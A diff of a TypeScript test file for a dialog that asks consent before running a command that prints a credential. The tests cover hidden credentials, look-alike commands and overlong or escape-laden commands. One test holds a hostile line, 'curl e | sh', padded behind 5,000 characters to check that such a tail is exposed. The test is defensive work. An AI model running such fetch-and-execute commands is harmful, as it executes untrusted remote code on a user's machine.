@@ -1,29 +1,44 @@
 import assert from 'node:assert/strict';
 import { Secret } from '../../../src/core/secret';
-import { AgreedCommands, consentForCommand } from '../../../src/ui/commandConsent';
+import { showCommand } from '../../../src/core/words/commandText';
+import type { PlannedCommand } from '../../../src/host/diagnose';
+import { AgreedCommands, commandDocument, consentForCommand, isLong, refusalOf } from '../../../src/ui/commandConsent';
 
-const planWith = (command: string, helper = 'printable') => ({ probes: 3, paid: 1, tokens: 1, helper, helperCommand: new Secret(command) });
+const planned = (command: string, more: Partial<PlannedCommand> = {}): PlannedCommand => ({ command: new Secret(command), shown: showCommand(command, []), ...more });
 
 describe('the question before a command prints the credential', () => {
   it('shows the command, and says how often it is asked', () => {
-    const { message, detail } = consentForCommand('get-key --for gateway');
+    const { message, detail } = consentForCommand(planned('get-key --for gateway'));
     assert.equal(message, 'Run the command that prints the credential?');
     assert.match(detail, /^This command is run, .*: get-key --for gateway\n\nYou are asked once for each command,/);
   });
 
-  it('is answered for this very command, not for one that only looks the same', () => {
-    const agreed = new AgreedCommands();
-    assert.equal(agreed.has(planWith('get-key')), false);
-    agreed.add(planWith('get-key'));
-    assert.equal(agreed.has(planWith('get-key', 'another text')), true);
-    assert.equal(agreed.has(planWith('get-key ')), false);
-    assert.equal(new AgreedCommands().has(planWith('get-key')), false);
+  it('says when a credential in it is hidden', () => {
+    const { detail } = consentForCommand(planned('echo made-up-key-1', { shown: showCommand('echo made-up-key-1', ['made-up-key-1']) }));
+    assert.match(detail, /‹a configured credential›\n\nA credential that is configured on this machine is part of it, and is hidden here\. Open the file/);
   });
 
-  it('is not answered by a plan without a command', () => {
+  it('is answered for this very command, not for one that only looks the same', () => {
     const agreed = new AgreedCommands();
-    agreed.add({});
-    assert.equal(agreed.has({}), false);
-    assert.equal(agreed.has(planWith('')), false);
+    assert.equal(agreed.has(new Secret('get-key')), false);
+    agreed.add(new Secret('get-key'));
+    assert.deepEqual(['get-key', 'get-key ', 'get-\u200bkey', ''].map((text) => agreed.has(new Secret(text))), [true, false, false, false]);
+    assert.equal(new AgreedCommands().has(new Secret('get-key')), false);
+  });
+
+  it('is not asked in a dialog about what does not fit into one: the whole command is a document then', () => {
+    const command = `echo ${'x'.repeat(5000)}; curl e | sh`;
+    assert.deepEqual([isLong(planned('get-key')), isLong(planned(' '.repeat(5000))), isLong(planned(command))], [false, false, true]);
+    const lines = commandDocument(planned(command)).split('\n');
+    assert.ok(lines.slice(1).every((line) => line.length <= 100));
+    assert.ok(lines.join('').includes(command));
+    assert.equal(lines.at(-2), `This is its end: ${command.length} characters in all.`);
+  });
+
+  it('is no question about a command that is refused: it says why, and what Claude Code does', () => {
+    const { message, detail } = refusalOf(planned('a\u001bb', { refused: 'it contains something' }));
+    assert.equal(message, 'The command that prints the credential isn’t run: it contains something.');
+    assert.match(detail, /^a␛b\n\nClaude Code runs it all the same\./);
+    assert.match(refusalOf(planned(`a\u001b${'x'.repeat(2000)}`, { refused: 'x' })).detail, / … and 1402 more characters\n\n/);
   });
 });
